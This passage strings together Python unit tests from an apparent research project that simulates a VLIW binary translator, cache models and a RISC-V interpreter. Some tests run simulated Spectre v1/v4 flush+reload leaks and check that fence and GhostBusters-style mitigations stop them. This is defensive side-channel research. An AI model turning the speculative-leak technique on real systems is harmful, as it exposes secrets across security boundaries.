    return build_ir([head, then])


def test_store_control_dependence_is_never_relaxable():
    ir = _v11_ir()
    store_index = next(
        index for index, inst in enumerate(ir.instructions)
        if inst.kind is IRKind.STORE
    )
    ctrl_edges = [
        edge for edge in ir.dependences()
        if edge.kind is DepKind.CTRL and edge.dst == store_index
    ]
    assert ctrl_edges, "the store must be control-dependent on the check"
    assert all(not edge.relaxable for edge in ctrl_edges)


def test_scheduler_never_hoists_the_guarded_store():
    ir = _v11_ir()
    block = schedule_block(ir, CONFIG, SchedulerOptions())
    branch_bundle = None
    store_bundle = None
    for index, bundle in enumerate(block.bundles):
        for op in bundle:
            if op.opcode is VliwOpcode.BRANCH:
                branch_bundle = index
            if op.opcode is VliwOpcode.STORE:
                store_bundle = index
    assert store_bundle > branch_bundle, (
        "Spectre v1.1 requires a speculative store; the DBT never emits one"
    )


def test_no_speculative_store_opcode_exists():
    # The VLIW ISA has no speculative store: only loads carry the flag.
    import pytest
    from repro.vliw.isa import VliwOp

    with pytest.raises(ValueError):
        VliwOp(VliwOpcode.STORE, src1=1, src2=2, speculative=True)


def test_hoisted_loads_write_hidden_registers_only():
    # Meltdown-style forwarding would need wrong-path data to reach
    # architectural state; hoisted values live in hidden registers and
    # commits are pinned behind the exits.
    ir = _v11_ir()
    block = schedule_block(ir, CONFIG, SchedulerOptions())
    branch_bundle = max(
        index for index, bundle in enumerate(block.bundles)
        for op in bundle if op.opcode is VliwOpcode.BRANCH
    )
    for index, bundle in enumerate(block.bundles):
        for op in bundle:
            if index <= branch_bundle and op.origin is not None:
                # Ops at-or-before the last exit that originate from
                # beyond it must not write architectural registers.
                origin_inst = None
                dest = op.destination()
                if dest is not None and dest < 32 and op.opcode in (
                    VliwOpcode.LOAD,
                ):
                    # Architectural load before the exit must originate
                    # from before the exit in program order.
                    assert op.origin <= 3, op.describe()
