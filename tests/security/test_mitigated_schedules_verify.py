"""Integration: the attack victims' schedules are legal under all
policies, and the mitigation edges have the intended structural effect.

Uses the public schedule verifier on exactly the blocks that matter for
the paper: the Spectre victims after poisoning + mitigation.
"""

import pytest

from repro.dbt.blocks import discover_block
from repro.dbt.irbuilder import build_ir
from repro.dbt.scheduler import SchedulerOptions, schedule_block
from repro.dbt.verify import check_schedule
from repro.attacks.spectre_v1 import SpectreV1Config
from repro.attacks.spectre_v1 import build_program as build_v1
from repro.attacks.spectre_v4 import SpectreV4Config
from repro.attacks.spectre_v4 import build_program as build_v4
from repro.security.mitigation import apply_fence, apply_ghostbusters
from repro.security.poison import analyze_block
from repro.vliw.config import VliwConfig
from repro.vliw.isa import VliwOpcode

CONFIG = VliwConfig()
SECRET = b"Z!"


def _victim_ir(builder, config_cls):
    program = builder(config_cls(secret=SECRET))
    entry = program.symbol("victim")
    head = discover_block(program, entry)
    path = [head]
    if head.terminator.is_branch:
        path.append(discover_block(program, head.fallthrough))
    return build_ir(path)


@pytest.mark.parametrize("builder,config_cls", [
    (build_v1, SpectreV1Config),
    (build_v4, SpectreV4Config),
])
@pytest.mark.parametrize("mitigation", [None, apply_ghostbusters, apply_fence])
def test_victim_schedules_verify(builder, config_cls, mitigation):
    ir = _victim_ir(builder, config_cls)
    report = analyze_block(ir)
    assert report.has_pattern
    if mitigation is not None:
        mitigation(ir, report)
    block = schedule_block(ir, CONFIG, SchedulerOptions())
    check_schedule(ir, block, CONFIG)


def test_v1_mitigation_removes_the_leaky_hoist():
    ir = _victim_ir(build_v1, SpectreV1Config)
    report = analyze_block(ir)
    assert len(report.flagged) == 1
    leaky_guest_index = ir.instructions[report.flagged[0].index].guest_index
    unsafe = schedule_block(ir, CONFIG, SchedulerOptions())
    apply_ghostbusters(ir, report)
    safe = schedule_block(ir, CONFIG, SchedulerOptions())

    def leaky_load_before_branch(block):
        branch_bundle = None
        leaky_bundle = None
        for index, bundle in enumerate(block.bundles):
            for op in bundle:
                if op.opcode is VliwOpcode.BRANCH:
                    branch_bundle = index
                if (op.opcode is VliwOpcode.LOAD
                        and op.origin == leaky_guest_index):
                    leaky_bundle = index
        assert branch_bundle is not None and leaky_bundle is not None
        return leaky_bundle <= branch_bundle

    assert leaky_load_before_branch(unsafe), "unsafe schedule must leak"
    assert not leaky_load_before_branch(safe), "mitigated schedule must not"


def test_v4_mitigation_keeps_first_speculation():
    # Figure 3C: the first load stays speculative; only poisoned-address
    # accesses are pinned.
    ir = _victim_ir(build_v4, SpectreV4Config)
    report = analyze_block(ir)
    apply_ghostbusters(ir, report)
    block = schedule_block(ir, CONFIG, SchedulerOptions())
    spec_loads = [op for op in block.ops()
                  if op.opcode is VliwOpcode.LOAD and op.speculative]
    assert len(spec_loads) >= 1
    # The flagged byte loads are NOT among the speculative ones.
    assert all(op.width == 8 for op in spec_loads)
