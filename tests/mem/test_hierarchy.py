"""Tests for the timed data-memory system."""

from repro.mem.cache import CacheConfig
from repro.mem.hierarchy import DataMemorySystem


def make() -> DataMemorySystem:
    return DataMemorySystem(cache_config=CacheConfig(
        size_bytes=1024, line_size=64, associativity=2,
        hit_latency=2, miss_latency=20,
    ))


def test_load_timing_miss_then_hit():
    system = make()
    first = system.load(0x100, 8)
    assert not first.hit and first.latency == 20
    second = system.load(0x100, 8)
    assert second.hit and second.latency == 2


def test_store_then_load_value():
    system = make()
    system.store(0x200, 0xDEAD, 8)
    assert system.load(0x200, 8).value == 0xDEAD


def test_store_allocates_line():
    system = make()
    result = system.store(0x300, 1, 8)
    assert not result.hit
    assert system.load(0x300, 1).hit


def test_signed_load():
    system = make()
    system.store(0x80, 0xFF, 1)
    assert system.load(0x80, 1, signed=True).value == -1
    assert system.load(0x80, 1, signed=False).value == 0xFF


def test_flush_line_restores_miss_latency():
    system = make()
    system.load(0x100, 8)
    system.flush_line(0x100)
    assert not system.load(0x100, 8).hit


def test_peek_poke_do_not_touch_cache():
    system = make()
    system.poke(0x400, 77, 8)
    assert system.peek(0x400, 8) == 77
    assert not system.cache.probe(0x400)
    assert system.stats.accesses == 0


def test_flush_keeps_data():
    # The cache is a timing model: flushing must never lose data.
    system = make()
    system.store(0x500, 123456, 8)
    system.flush_line(0x500)
    assert system.load(0x500, 8).value == 123456
