"""Seeded-random differential fuzz for the vectorized lane cache engine.

:mod:`repro.mem.vector` must be *indistinguishable* from N independent
:class:`~repro.mem.cache.SetAssociativeCache` models — per access
(hit/latency), per stat, per resident line *in eviction order*, per LCG
state — or the lane-batched timing path would silently change guest
observables.  These tests drive deterministic mixed op streams (sizes
1..100 including line-spanning accesses, line flushes, full flushes)
through both implementations in lockstep across all three replacement
policies and several geometries, and do the same for the lockstep
:class:`~repro.mem.vector.VectorReplay` engine and the MCB's batched
``check_window``.
"""

import dataclasses
import random

import pytest

from repro.mem.cache import CacheConfig, SetAssociativeCache
from repro.mem.vector import (
    OP_ACCESS,
    OP_FLUSH,
    OP_FLUSH_ALL,
    LaneCacheModel,
    VectorReplay,
)
from repro.vliw.mcb import MemoryConflictBuffer

REPLACEMENTS = ("lru", "fifo", "random")

#: Geometries chosen to stress different shapes: the default config,
#: a tiny 2-way (constant eviction pressure), and a wide skewed one.
GEOMETRIES = {
    "default": CacheConfig(),
    "tiny-2way": CacheConfig(size_bytes=2048, line_size=32, associativity=2,
                             hit_latency=1, miss_latency=9),
    "wide-8way": CacheConfig(size_bytes=4096, line_size=16, associativity=8,
                             hit_latency=2, miss_latency=20),
}

#: Access sizes, including multi-line spans (33 and 100 cross line
#: boundaries on every geometry above).
SIZES = (1, 2, 4, 8, 16, 33, 100)


def _seed(geometry, replacement, lane):
    return (sorted(GEOMETRIES).index(geometry) * 97
            + REPLACEMENTS.index(replacement) * 13 + lane)


def _op_stream(rng, length, span):
    """Mixed deterministic op stream: mostly accesses over a span a few
    times the cache size (so sets genuinely fill and evict), some line
    flushes, rare full flushes."""
    ops = []
    for _ in range(length):
        roll = rng.random()
        address = rng.randrange(span)
        if roll < 0.90:
            ops.append((OP_ACCESS, address, rng.choice(SIZES)))
        elif roll < 0.98:
            ops.append((OP_FLUSH, address, 1))
        else:
            ops.append((OP_FLUSH_ALL, 0, 1))
    return ops


def _assert_state_equal(lane, scalar, context):
    assert lane._sets == scalar._sets, context  # exact way/eviction order
    assert lane._lcg_state == scalar._lcg_state, context
    assert lane.occupancy() == scalar.occupancy(), context
    assert lane.resident_lines() == scalar.resident_lines(), context
    stats = lane.stats
    assert (stats.hits, stats.misses, stats.evictions, stats.flushes) == (
        scalar.stats.hits, scalar.stats.misses,
        scalar.stats.evictions, scalar.stats.flushes), context


@pytest.mark.parametrize("replacement", REPLACEMENTS)
@pytest.mark.parametrize("geometry", sorted(GEOMETRIES))
def test_lanes_match_scalar_models(geometry, replacement):
    """LaneView op-by-op against independent scalar models: identical
    (hit, latency) per access, identical flush outcomes, and identical
    state/stats at every checkpoint."""
    config = dataclasses.replace(GEOMETRIES[geometry],
                                 replacement=replacement)
    span = config.size_bytes * 4
    model = LaneCacheModel(config)
    lanes, scalars, streams = [], [], []
    for index in range(5):
        rng = random.Random(_seed(geometry, replacement, index))
        lanes.append(model.add_lane())
        scalars.append(SetAssociativeCache(config))
        streams.append(_op_stream(rng, 1200, span))

    for step in range(1200):
        for index in range(len(lanes)):
            kind, address, size = streams[index][step]
            lane, scalar = lanes[index], scalars[index]
            context = (geometry, replacement, index, step)
            if kind == OP_ACCESS:
                assert (lane.access(address, size)
                        == scalar.access(address, size)), context
            elif kind == OP_FLUSH:
                assert (lane.flush_line(address)
                        == scalar.flush_line(address)), context
            else:
                lane.flush_all()
                scalar.flush_all()
            assert lane.probe(address) == scalar.probe(address), context
        if step % 97 == 0 or step == 1199:
            # Interleaved drains must not disturb any lane's state.
            model.drain()
            for index in range(len(lanes)):
                _assert_state_equal(lanes[index], scalars[index],
                                    (geometry, replacement, index, step))
    assert model.drained_entries > 0


@pytest.mark.parametrize("replacement", REPLACEMENTS)
@pytest.mark.parametrize("geometry", sorted(GEOMETRIES))
def test_replay_matches_scalar_models(geometry, replacement):
    """The lockstep numpy replay engine, fed whole op streams at once,
    reproduces every per-op outcome and the final state of independent
    scalar models — including eviction order under the random LCG."""
    config = dataclasses.replace(GEOMETRIES[geometry],
                                 replacement=replacement)
    span = config.size_bytes * 4
    replay = VectorReplay(config, lanes=4)
    scalars = [SetAssociativeCache(config) for _ in range(4)]
    streams = {}
    for index in range(4):
        rng = random.Random(1000 + _seed(geometry, replacement, index))
        ops = _op_stream(rng, 600, span)
        streams[index] = ([op[0] for op in ops], [op[1] for op in ops],
                          [op[2] for op in ops])

    outcomes = replay.run(streams)

    for index, scalar in enumerate(scalars):
        kinds, addresses, sizes = streams[index]
        outcome = outcomes[index]
        for op in range(len(kinds)):
            context = (geometry, replacement, index, op)
            if kinds[op] == OP_ACCESS:
                hit, latency = scalar.access(addresses[op], sizes[op])
                assert bool(outcome["hits"][op]) == hit, context
                assert int(outcome["latencies"][op]) == latency, context
            elif kinds[op] == OP_FLUSH:
                resident = scalar.flush_line(addresses[op])
                assert bool(outcome["hits"][op]) == resident, context
            else:
                scalar.flush_all()
        assert tuple(int(v) for v in outcome["stats"]) == (
            scalar.stats.hits, scalar.stats.misses,
            scalar.stats.evictions, scalar.stats.flushes)
        assert int(replay.lcg[index]) == scalar._lcg_state
        # Final tag state, way by way in eviction order.
        for set_index, ways in enumerate(scalar._sets):
            row = replay.tags[index, set_index]
            assert list(row[:len(ways)]) == ways
            assert (row[len(ways):] == -1).all()


def test_verify_mode_replays_every_drain():
    """``verify=True`` cross-checks each drained log against the replay
    engine; a clean run over a heavy mixed stream is the positive
    control that the verifier is wired and agrees."""
    config = CacheConfig(size_bytes=2048, line_size=32, associativity=2,
                         replacement="random")
    model = LaneCacheModel(config, verify=True)
    lanes = [model.add_lane() for _ in range(3)]
    for index, lane in enumerate(lanes):
        rng = random.Random(77 + index)
        for kind, address, size in _op_stream(rng, 800,
                                              config.size_bytes * 4):
            if kind == OP_ACCESS:
                lane.access(address, size)
            elif kind == OP_FLUSH:
                lane.flush_line(address)
            else:
                lane.flush_all()
        model.drain()
    assert model.drains > 0
    assert model.drained_entries > 0


def test_lane_exports_match_scalar_shape():
    """The lane-stacked numpy exports mirror the per-lane list state."""
    config = CacheConfig(size_bytes=2048, line_size=32, associativity=2)
    model = LaneCacheModel(config)
    lanes = [model.add_lane() for _ in range(2)]
    lanes[0].access(0)
    lanes[0].access(config.line_size * config.num_sets)  # same set, new tag
    lanes[1].access(config.line_size * 3)
    tags = model.tags_array()
    assert tags.shape == (2, config.num_sets, config.associativity)
    assert list(tags[0, 0, :2]) == lanes[0]._sets[0]
    assert tags[1, 3, 0] == lanes[1]._sets[3][0]
    recency = model.recency_array()
    assert (recency[tags < 0] == -1).all()
    assert recency[0, 0, 1] == 1  # MRU rank of the second fill
    stats = model.stats_array()
    assert stats.shape == (2, 4)
    assert stats[0, 1] == 2 and stats[1, 1] == 1  # misses column


def test_mcb_check_window_matches_scalar_scan():
    """Batched ``check_window`` is semantically the store-by-store
    scalar scan: same first-conflicting store, same reported entry,
    same stats — across random buffers and store windows."""
    rng = random.Random(0xD1FF)
    for trial in range(300):
        scalar = MemoryConflictBuffer(capacity=16)
        batched = MemoryConflictBuffer(capacity=16)
        for index in range(rng.randrange(13)):
            address = rng.randrange(512)
            width = rng.choice((1, 2, 4, 8))
            scalar.record_load(address, width, dest=index,
                               op_index=index, tag=index)
            batched.record_load(address, width, dest=index,
                                op_index=index, tag=index)
        stores = [(rng.randrange(512), rng.choice((1, 2, 4, 8)))
                  for _ in range(rng.randrange(7))]

        expected_index, expected = -1, None
        for index, (address, width) in enumerate(stores):
            conflict = scalar.check_store(address, width)
            if conflict is not None:
                expected_index, expected = index, conflict
                break
        got_index, got = batched.check_window(
            [address for address, _ in stores],
            [width for _, width in stores])
        assert got_index == expected_index, trial
        assert got == expected, trial
        assert batched.conflicts == scalar.conflicts, trial

    # Edge cases: empty window, empty buffer.
    mcb = MemoryConflictBuffer()
    assert mcb.check_window([], []) == (-1, None)
    assert mcb.check_window([0x100], [8]) == (-1, None)
    mcb.record_load(0x100, 8, dest=1, op_index=0, tag=0)
    assert mcb.check_window([0x200], [8]) == (-1, None)
    index, conflict = mcb.check_window([0x200, 0x104, 0x100], [8, 2, 4])
    assert index == 1
    assert conflict is not None and conflict.entry.address == 0x100
