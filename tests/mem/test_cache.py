"""Tests for the set-associative cache model."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.mem.cache import CacheConfig, SetAssociativeCache


def small_cache(ways: int = 2, sets: int = 4, line: int = 64) -> SetAssociativeCache:
    return SetAssociativeCache(CacheConfig(
        size_bytes=ways * sets * line, line_size=line, associativity=ways,
        hit_latency=3, miss_latency=30,
    ))


def test_config_validation():
    with pytest.raises(ValueError):
        CacheConfig(line_size=48)  # not a power of two
    with pytest.raises(ValueError):
        CacheConfig(size_bytes=1000)  # not a multiple of line*ways
    with pytest.raises(ValueError):
        CacheConfig(hit_latency=5, miss_latency=4)


def test_num_sets():
    config = CacheConfig(size_bytes=16384, line_size=64, associativity=4)
    assert config.num_sets == 64


def test_miss_then_hit():
    cache = small_cache()
    hit, latency = cache.access(0x1000)
    assert not hit and latency == 30
    hit, latency = cache.access(0x1000)
    assert hit and latency == 3
    # Same line, different offset.
    hit, _ = cache.access(0x1000 + 63)
    assert hit


def test_access_spanning_two_lines():
    cache = small_cache()
    hit, latency = cache.access(0x1000 + 60, size=8)
    assert not hit and latency == 30
    assert cache.probe(0x1000)
    assert cache.probe(0x1040)


def test_lru_eviction():
    cache = small_cache(ways=2, sets=1, line=64)
    cache.access(0 * 64)
    cache.access(1 * 64)
    cache.access(0 * 64)  # refresh line 0; line 1 is now LRU
    cache.access(2 * 64)  # evicts line 1
    assert cache.probe(0)
    assert not cache.probe(64)
    assert cache.probe(128)
    assert cache.stats.evictions == 1


def test_set_indexing_separates_lines():
    cache = small_cache(ways=1, sets=4)
    cache.access(0 * 64)   # set 0
    cache.access(1 * 64)   # set 1
    assert cache.probe(0) and cache.probe(64)
    cache.access(4 * 64)   # set 0 again -> evicts line 0 (1-way)
    assert not cache.probe(0)
    assert cache.probe(64)


def test_flush_line():
    cache = small_cache()
    cache.access(0x2000)
    assert cache.flush_line(0x2000 + 10)  # any offset within the line
    assert not cache.probe(0x2000)
    assert not cache.flush_line(0x2000)  # already gone
    assert cache.stats.flushes == 2


def test_flush_all():
    cache = small_cache()
    for index in range(4):
        cache.access(index * 64)
    cache.flush_all()
    assert cache.occupancy() == 0


def test_probe_does_not_disturb_state():
    cache = small_cache()
    cache.access(0x3000)
    hits_before = cache.stats.hits
    misses_before = cache.stats.misses
    assert cache.probe(0x3000)
    assert not cache.probe(0x4000)
    assert cache.stats.hits == hits_before
    assert cache.stats.misses == misses_before
    assert not cache.probe(0x4000)  # probing a miss does not fill


def test_resident_lines_reporting():
    cache = small_cache()
    cache.access(0)
    cache.access(64)
    assert cache.resident_lines() == [0, 64]


def test_stats_hit_rate():
    cache = small_cache()
    cache.access(0)
    cache.access(0)
    cache.access(0)
    assert cache.stats.accesses == 3
    assert cache.stats.hit_rate == pytest.approx(2 / 3)
    cache.stats.reset()
    assert cache.stats.accesses == 0


@given(st.lists(st.integers(0, 1 << 16), min_size=1, max_size=200))
@settings(max_examples=50)
def test_property_occupancy_bounded(addresses):
    cache = small_cache(ways=2, sets=4)
    for address in addresses:
        cache.access(address)
    assert cache.occupancy() <= 8
    for ways in cache._sets:
        assert len(ways) <= 2


@given(st.lists(st.integers(0, 1 << 14), min_size=1, max_size=100))
@settings(max_examples=50)
def test_property_probe_after_access_hits(addresses):
    cache = SetAssociativeCache()  # default 16 KiB, plenty
    for address in addresses:
        cache.access(address)
        assert cache.probe(address)


@given(st.lists(st.integers(0, 1 << 16), min_size=1, max_size=100))
@settings(max_examples=50)
def test_property_hits_plus_misses(addresses):
    cache = small_cache()
    for address in addresses:
        cache.access(address)
    assert cache.stats.hits + cache.stats.misses == len(addresses)
