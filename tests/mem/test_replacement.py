"""Replacement-policy tests, including attack robustness."""

import pytest

from repro.mem.cache import CacheConfig, SetAssociativeCache
from repro.attacks import AttackVariant, run_attack
from repro.security.policy import MitigationPolicy
from repro.vliw.config import VliwConfig


def _cache(policy: str, ways: int = 2) -> SetAssociativeCache:
    return SetAssociativeCache(CacheConfig(
        size_bytes=ways * 64, line_size=64, associativity=ways,
        replacement=policy,
    ))


def test_unknown_policy_rejected():
    with pytest.raises(ValueError, match="replacement"):
        CacheConfig(replacement="plru")


def test_lru_refreshes_on_hit():
    cache = _cache("lru")
    cache.access(0)
    cache.access(64)
    cache.access(0)     # refresh 0
    cache.access(128)   # evicts 64
    assert cache.probe(0)
    assert not cache.probe(64)


def test_fifo_ignores_hits():
    cache = _cache("fifo")
    cache.access(0)
    cache.access(64)
    cache.access(0)     # hit, but no refresh under FIFO
    cache.access(128)   # evicts 0 (oldest insertion)
    assert not cache.probe(0)
    assert cache.probe(64)


def test_random_is_deterministic():
    def resident_after_fill(cache):
        for line in range(6):
            cache.access(line * 64)
        return cache.resident_lines()

    first = resident_after_fill(_cache("random", ways=4))
    second = resident_after_fill(_cache("random", ways=4))
    assert first == second  # same LCG seed -> same evictions
    assert len(first) == 4


def test_random_policy_bounded():
    cache = _cache("random", ways=2)
    for line in range(32):
        cache.access(line * 64)
    assert cache.occupancy() <= 2


@pytest.mark.parametrize("policy", ["fifo", "random"])
def test_flush_reload_attack_robust_to_replacement_policy(policy):
    # Flush+reload does not depend on replacement: the attacker flushes
    # explicitly.  The v1 leak must survive any policy.
    config = VliwConfig(cache=CacheConfig(replacement=policy))
    result = run_attack(
        AttackVariant.SPECTRE_V1, MitigationPolicy.UNSAFE,
        secret=b"GB", vliw_config=config,
    )
    assert result.leaked
