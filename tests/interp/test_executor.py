"""Functional interpreter tests: whole-program behaviours."""

import pytest

from repro.isa.assembler import assemble
from repro.interp.executor import (
    ExecutionError,
    GuestTrap,
    Interpreter,
    run_program,
)
from repro.interp.state import to_unsigned

from ..conftest import run_exit_code


def test_exit_code_propagates():
    assert run_exit_code("""
    li a0, 42
    li a7, 93
    ecall
""") == 42


def test_exit_code_is_signed_32bit():
    assert run_exit_code("""
    li a0, -1
    li a7, 93
    ecall
""") == -1


def test_arithmetic_chain():
    assert run_exit_code("""
    li t0, 6
    li t1, 7
    mul a0, t0, t1
    li a7, 93
    ecall
""") == 42


def test_branch_taken_and_not_taken():
    assert run_exit_code("""
    li t0, 5
    li t1, 5
    li a0, 0
    bne t0, t1, bad
    li a0, 1
bad:
    li a7, 93
    ecall
""") == 1


def test_unsigned_branches():
    assert run_exit_code("""
    li t0, -1          # huge unsigned
    li t1, 1
    li a0, 0
    bltu t1, t0, good
    j end
good:
    li a0, 1
end:
    li a7, 93
    ecall
""") == 1


def test_loads_and_stores_all_widths():
    assert run_exit_code("""
    la t0, buf
    li t1, -2
    sb t1, 0(t0)
    sh t1, 2(t0)
    sw t1, 4(t0)
    sd t1, 8(t0)
    lbu a0, 0(t0)      # 0xfe
    lhu t2, 2(t0)      # 0xfffe
    add a0, a0, t2
    lb t3, 0(t0)       # -2
    add a0, a0, t3
    lw t4, 4(t0)       # -2
    add a0, a0, t4
    andi a0, a0, 0x7f
    li a7, 93
    ecall
.data
buf:
    .space 16
""") == (0xFE + 0xFFFE - 2 - 2) & 0x7F


def test_function_call_and_return():
    assert run_exit_code("""
_start:
    li a0, 5
    call double
    call double
    li a7, 93
    ecall
double:
    add a0, a0, a0
    ret
""") == 20


def test_write_syscall_collects_output():
    program = assemble("""
    li a7, 64
    li a0, 1
    la a1, msg
    li a2, 5
    ecall
    li a7, 93
    li a0, 0
    ecall
.data
msg:
    .asciz "hello"
""")
    result = run_program(program)
    assert result.output == b"hello"


def test_rdcycle_monotonic():
    assert run_exit_code("""
    rdcycle t0
    nop
    nop
    rdcycle t1
    sub a0, t1, t0
    li a7, 93
    ecall
""") == 3  # one per retired instruction in the functional model


def test_rdinstret():
    assert run_exit_code("""
    rdinstret t0
    rdinstret t1
    sub a0, t1, t0
    li a7, 93
    ecall
""") == 1


def test_ebreak_raises_trap():
    with pytest.raises(GuestTrap):
        run_program(assemble("ebreak"))


def test_unknown_syscall_raises():
    with pytest.raises(ExecutionError, match="unknown syscall"):
        run_program(assemble("""
    li a7, 777
    ecall
"""))


def test_instruction_budget():
    program = assemble("""
spin:
    j spin
""")
    with pytest.raises(ExecutionError, match="budget"):
        run_program(program, max_instructions=100)


def test_misaligned_pc_rejected():
    program = assemble("""
    li t0, 0x10002
    jr t0
""")
    with pytest.raises(ExecutionError, match="misaligned"):
        run_program(program)


def test_x0_is_hardwired_zero():
    assert run_exit_code("""
    li t0, 99
    add x0, t0, t0
    mv a0, x0
    li a7, 93
    ecall
""") == 0


def test_jalr_clears_low_bit():
    assert run_exit_code("""
    la t0, target
    ori t0, t0, 1
    jalr ra, 0(t0)
bad:
    li a0, 9
    li a7, 93
    ecall
target:
    li a0, 3
    li a7, 93
    ecall
""") == 3


def test_lui_auipc():
    interp = Interpreter(assemble("""
    lui t0, 0x12345
    auipc t1, 0
    ebreak
"""))
    with pytest.raises(GuestTrap):
        interp.run()
    assert interp.state.read(5) == 0x12345000
    assert interp.state.read(6) == interp.program.entry + 4


def test_lui_sign_extends_on_rv64():
    interp = Interpreter(assemble("""
    lui t0, 0x80000
    ebreak
"""))
    with pytest.raises(GuestTrap):
        interp.run()
    assert interp.state.read(5) == to_unsigned(-(1 << 31))


def test_fence_and_cflush_are_functional_noops():
    assert run_exit_code("""
    la t0, buf
    li t1, 7
    sd t1, 0(t0)
    fence
    cflush 0(t0)
    ld a0, 0(t0)
    li a7, 93
    ecall
.data
buf:
    .space 8
""") == 7


def test_stack_pointer_initialised():
    assert run_exit_code("""
    addi sp, sp, -16
    li t0, 11
    sd t0, 0(sp)
    ld a0, 0(sp)
    li a7, 93
    ecall
""") == 11


def test_stepping_after_exit_fails():
    interp = Interpreter(assemble("""
    li a7, 93
    li a0, 0
    ecall
"""))
    interp.run()
    with pytest.raises(ExecutionError):
        interp.step()
