"""ArchState and integer-representation helper tests."""

import pytest

from repro.interp.state import (
    ArchState,
    MASK64,
    sign_extend32,
    to_signed,
    to_unsigned,
)


def test_to_signed_edges():
    assert to_signed(0) == 0
    assert to_signed(MASK64) == -1
    assert to_signed(1 << 63) == -(1 << 63)
    assert to_signed((1 << 63) - 1) == (1 << 63) - 1
    assert to_signed(0x80, 8) == -128
    assert to_signed(0x7F, 8) == 127


def test_to_unsigned_edges():
    assert to_unsigned(-1) == MASK64
    assert to_unsigned(-1, 8) == 0xFF
    assert to_unsigned(1 << 64) == 0


def test_sign_extend32():
    assert sign_extend32(0x7FFFFFFF) == 0x7FFFFFFF
    assert sign_extend32(0x80000000) == to_unsigned(-(1 << 31))
    assert sign_extend32(0x1_0000_0001) == 1  # upper bits ignored


def test_x0_write_discarded():
    state = ArchState()
    state.write(0, 42)
    assert state.read(0) == 0


def test_write_masks_to_64_bits():
    state = ArchState()
    state.write(5, (1 << 64) + 7)
    assert state.read(5) == 7


def test_copy_is_deep():
    state = ArchState(pc=0x100)
    state.write(3, 9)
    state.cycles = 5
    clone = state.copy()
    state.write(3, 1)
    state.pc = 0x200
    assert clone.read(3) == 9
    assert clone.pc == 0x100
    assert clone.cycles == 5


def test_same_registers_ignores_counters():
    a = ArchState()
    b = ArchState()
    b.cycles = 99
    assert a.same_registers(b)
    b.write(7, 1)
    assert not a.same_registers(b)


def test_diff_reports_mismatches():
    a = ArchState(pc=0x10)
    b = ArchState(pc=0x20)
    b.write(10, 5)
    lines = a.diff(b)
    assert any("a0" in line for line in lines)
    assert any("pc" in line for line in lines)
    assert a.diff(a.copy()) == []


def test_dump_format():
    state = ArchState()
    state.write(2, 0x8000)
    text = state.dump(limit=4)
    assert "sp" in text
    assert "0x" in text
    assert len(text.splitlines()) == 4
    assert len(state.dump().splitlines()) == 32
