"""Tests for the flat sparse memory."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.interp.memory import Memory, MemoryError_, PAGE_SIZE


def test_unwritten_memory_reads_zero():
    memory = Memory()
    assert memory.load_bytes(0x1234, 8) == b"\x00" * 8
    assert memory.load_int(99, 4) == 0


def test_store_load_roundtrip():
    memory = Memory()
    memory.store_bytes(100, b"hello")
    assert memory.load_bytes(100, 5) == b"hello"


def test_cross_page_access():
    memory = Memory()
    address = PAGE_SIZE - 3
    memory.store_bytes(address, b"abcdef")
    assert memory.load_bytes(address, 6) == b"abcdef"
    memory.store_int(PAGE_SIZE - 4, 0x1122334455667788, 8)
    assert memory.load_int(PAGE_SIZE - 4, 8) == 0x1122334455667788


def test_scalar_sign_handling():
    memory = Memory()
    memory.store_int(0, -1, 4)
    assert memory.load_int(0, 4) == 0xFFFFFFFF
    assert memory.load_int(0, 4, signed=True) == -1


def test_store_masks_value():
    memory = Memory()
    memory.store_int(0, 0x1FF, 1)
    assert memory.load_int(0, 1) == 0xFF


def test_bad_widths_rejected():
    memory = Memory()
    with pytest.raises(MemoryError_):
        memory.load_int(0, 3)
    with pytest.raises(MemoryError_):
        memory.store_int(0, 0, 16)


def test_negative_address_rejected():
    memory = Memory()
    with pytest.raises(MemoryError_):
        memory.load_bytes(-1, 4)
    with pytest.raises(MemoryError_):
        memory.store_bytes(-4, b"1234")


def test_load_image():
    memory = Memory()
    memory.load_image(0x1000, b"\x01\x02\x03")
    assert memory.load_bytes(0x1000, 3) == b"\x01\x02\x03"


def test_snapshot_is_independent():
    memory = Memory()
    memory.store_int(8, 42, 8)
    snapshot = memory.snapshot()
    memory.store_int(8, 99, 8)
    assert snapshot.load_int(8, 8) == 42
    assert memory.load_int(8, 8) == 99


def test_equal_contents_ignores_zero_pages():
    a = Memory()
    b = Memory()
    a.load_bytes(0x5000, 1)  # may or may not allocate; must not matter
    a.store_int(0x100, 7, 8)
    b.store_int(0x100, 7, 8)
    b.store_bytes(0x9000, b"\x00" * 16)  # explicit zero write
    assert a.equal_contents(b)
    b.store_int(0x100, 8, 8)
    assert not a.equal_contents(b)


@given(st.integers(0, 1 << 20), st.binary(min_size=1, max_size=64))
@settings(max_examples=100)
def test_property_roundtrip(address, data):
    memory = Memory()
    memory.store_bytes(address, data)
    assert memory.load_bytes(address, len(data)) == data


@given(st.integers(0, 1 << 16), st.integers(0, (1 << 64) - 1),
       st.sampled_from([1, 2, 4, 8]))
@settings(max_examples=100)
def test_property_scalar_roundtrip(address, value, width):
    memory = Memory()
    memory.store_int(address, value, width)
    mask = (1 << (width * 8)) - 1
    assert memory.load_int(address, width) == value & mask
