"""ALU semantics: unit cases plus property tests against Python ints."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.interp.alu import OPERATIONS, apply
from repro.interp.state import MASK64, to_signed, to_unsigned

U64 = st.integers(0, MASK64)
INT64_MIN = -(1 << 63)


def test_add_wraps():
    assert apply("add", MASK64, 1) == 0


def test_sub_wraps():
    assert apply("sub", 0, 1) == MASK64


def test_shifts_mask_amount():
    assert apply("sll", 1, 64) == 1  # shamt masked to 6 bits
    assert apply("srl", 1 << 63, 63) == 1
    assert apply("sra", to_unsigned(-8), 1) == to_unsigned(-4)


def test_comparisons():
    assert apply("slt", to_unsigned(-1), 0) == 1
    assert apply("slt", 0, to_unsigned(-1)) == 0
    assert apply("sltu", 0, to_unsigned(-1)) == 1  # -1 is huge unsigned


def test_word_ops_sign_extend():
    assert apply("addw", 0x7FFFFFFF, 1) == to_unsigned(-(1 << 31))
    assert apply("subw", 0, 1) == MASK64
    assert apply("sllw", 1, 31) == to_unsigned(-(1 << 31))
    assert apply("srlw", to_unsigned(-1), 0) == to_unsigned(-1)
    assert apply("sraw", 0x80000000, 4) == to_unsigned(-(1 << 27))


def test_mul_family():
